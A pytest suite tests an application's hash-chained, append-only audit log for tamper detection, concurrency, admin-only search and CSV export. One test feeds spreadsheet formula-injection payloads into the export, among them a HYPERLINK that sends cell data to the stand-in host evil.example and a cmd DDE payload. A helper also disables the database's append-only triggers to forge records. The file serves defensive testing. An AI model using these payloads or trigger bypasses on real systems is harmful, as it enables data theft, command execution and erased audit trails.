"""The audit log: appended in a hash chain, verified, tamper-evident, append-only, and never forked."""

from __future__ import annotations

import re
import threading
from datetime import timedelta

import pytest
from sqlalchemy import func, select, text
from sqlalchemy.exc import DBAPIError

from onevoice.audit import log as audit
from onevoice.audit.models import AuditRecord
from onevoice.auth.principal import SYSTEM, Principal
from onevoice.db import unit_of_work, utcnow
from onevoice.errors import Forbidden

pytestmark = pytest.mark.both_databases

ADMIN = Principal(1, "ada@acme.test", "Ada", "admin")
RESPONDER = Principal(2, "sam@acme.test", "Sam", "responder")


def write(session_factory, n=5, **extra):
    with unit_of_work(session_factory) as session:
        for i in range(n):
            audit.record(session, ADMIN, f"thing.do{i % 2}", f"thing:{i}", {"i": i, "note": "ünïcode ✓", **extra},
                         "10.0.0.1")


def tamper(session_factory, sql: str, **params):
    """What an attacker with the database owner's rights could do: go around the append-only triggers."""
    with session_factory() as session:
        dialect = session.get_bind().dialect.name
        if dialect == "postgresql":
            session.execute(text("ALTER TABLE audit_log DISABLE TRIGGER audit_log_append_only"))
        else:
            session.execute(text("DROP TRIGGER audit_log_no_update"))
            session.execute(text("DROP TRIGGER audit_log_no_delete"))
        session.execute(text(sql), params)
        if dialect == "postgresql":
            # The PostgreSQL database is shared by the whole test session: put the guard back.
            session.execute(text("ALTER TABLE audit_log ENABLE TRIGGER audit_log_append_only"))
        session.commit()


def test_records_chain_and_verify(session_factory):
    write(session_factory, 7)
    with session_factory() as session:
        rows = list(session.scalars(select(AuditRecord).order_by(AuditRecord.seq)))
        assert [r.seq for r in rows] == list(range(1, 8))
        assert rows[0].prev_hash == audit.GENESIS
        assert all(b.prev_hash == a.hash for a, b in zip(rows, rows[1:], strict=False))
        assert rows[0].actor == "ada@acme.test" and rows[0].ip == "10.0.0.1" and rows[0].data["note"] == "ünïcode ✓"
        result = audit.verify(session)
    assert result.ok and result.checked == 7 and result.head_hash == rows[-1].hash


def test_changed_content_is_found_at_the_first_broken_record(session_factory):
    write(session_factory, 6)
    tamper(session_factory, "UPDATE audit_log SET actor = 'mallory' WHERE seq = 4")
    with session_factory() as session:
        result = audit.verify(session)
    assert not result.ok and result.broken_seq == 4 and result.checked == 3 and "changed" in result.reason


def test_rewritten_record_with_recomputed_hash_breaks_the_next_link(session_factory):
    write(session_factory, 6)
    with session_factory() as session:
        rec = session.scalar(select(AuditRecord).where(AuditRecord.seq == 3))
        forged = audit.compute_hash(rec.prev_hash, rec.seq, rec.at, "mallory", rec.action, rec.target, rec.data,
                                    rec.ip)
    tamper(session_factory, "UPDATE audit_log SET actor = 'mallory', hash = :h WHERE seq = 3", h=forged)
    with session_factory() as session:
        result = audit.verify(session)
    assert not result.ok and result.broken_seq == 4 and "previous-hash" in result.reason


def test_deleted_record_is_found(session_factory):
    write(session_factory, 6)
    tamper(session_factory, "DELETE FROM audit_log WHERE seq = 2")
    with session_factory() as session:
        result = audit.verify(session)
    assert not result.ok and result.broken_seq == 3 and "missing" in result.reason


def test_the_database_refuses_update_and_delete(session_factory):
    write(session_factory, 2)
    for sql in ("UPDATE audit_log SET actor = 'mallory'", "DELETE FROM audit_log"):
        with session_factory() as session, pytest.raises(DBAPIError, match="append-only"):
            session.execute(text(sql))
            session.flush()
    with session_factory() as session:
        assert audit.verify(session).ok
        assert session.scalar(select(func.count(AuditRecord.id))) == 2


def test_concurrent_writers_do_not_fork_the_chain(session_factory):
    errors = []

    def writer(n):
        try:
            for i in range(10):
                with unit_of_work(session_factory) as session:
                    audit.record(session, f"writer{n}", "race.write", f"w{n}:{i}", {"i": i})
        except Exception as exc:  # noqa: BLE001 - collected and asserted below
            errors.append(exc)

    threads = [threading.Thread(target=writer, args=(n,)) for n in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    with session_factory() as session:
        result = audit.verify(session)
        assert result.ok and result.checked == 40


def test_search_and_export_are_for_admins_and_filter(session_factory):
    write(session_factory, 4)
    with unit_of_work(session_factory) as session:
        audit.record(session, SYSTEM, "channel.add", "channel:x", {"kind": "x"})
    with session_factory() as session:
        with pytest.raises(Forbidden):
            audit.search(session, RESPONDER)
        page = audit.search(session, ADMIN, action="thing", limit=3)
        assert [r.seq for r in page.items] == [4, 3, 2] and page.next == 2
        assert [r.seq for r in audit.search(session, ADMIN, action="thing", before_seq=2).items] == [1]
        assert [r.action for r in audit.search(session, ADMIN, action="channel").items] == ["channel.add"]
        assert audit.search(session, ADMIN, since=utcnow() + timedelta(hours=1)).items == []
        lines = list(audit.export_lines(session, "jsonl", action="thing.do0"))
        assert len(lines) == 2 and '"action":"thing.do0"' in lines[0]
        csv_lines = "".join(audit.export_lines(session, "csv")).splitlines()
        assert csv_lines[0].startswith("seq,at,actor") and len(csv_lines) == 6


@pytest.mark.parametrize("typed", ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+1+cmd|' /C calc'!A0",
                                   "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"])
def test_csv_export_never_hands_a_spreadsheet_a_formula(session_factory, typed):
    """The attack: a failed sign-in's email is a formula, and the admin opens the export in a spreadsheet."""
    import csv
    import io

    from onevoice.governance import signin

    with unit_of_work(session_factory) as session:
        signin.record_failure(session, typed, "10.0.0.1")
    with session_factory() as session:
        rows = list(csv.DictReader(io.StringIO("".join(audit.export_lines(session, "csv", action=signin.FAILED)))))
    actor = rows[-1]["actor"]
    assert actor.startswith("'") and actor[1:] == typed.strip().lower()[:200]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())


def test_an_exported_record_is_written_as_it_always_was(session_factory):
    """The export is a format people keep: its lines are the records' fields, in this byte form."""
    with unit_of_work(session_factory) as session:
        rec = audit.record(session, SYSTEM, "channel.add", "=channel:x", {"kind": "x", "n": [1, "é"]}, "10.0.0.1")
        rid, seq, prev, digest = rec.id, rec.seq, rec.prev_hash, rec.hash
    with session_factory() as session:
        line = list(audit.export_lines(session, "jsonl", action="channel.add"))[-1]
        row = list(audit.export_lines(session, "csv", action="channel.add"))[-1]
        at = audit.search(session, ADMIN, action="channel.add").items[0].at
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}\+00:00", at)
    assert line == (f'{{"action":"channel.add","actor":"system","at":"{at}","data":{{"kind":"x","n":[1,"é"]}},'
                    f'"hash":"{digest}","id":{rid},"ip":"10.0.0.1","prev_hash":"{prev}","seq":{seq},'
                    f'"target":"=channel:x"}}\n')
    assert row == (f'{seq},{at},system,channel.add,\'=channel:x,"{{""kind"":""x"",""n"":[1,""é""]}}",10.0.0.1,'
                   f"{prev},{digest}\r\n")
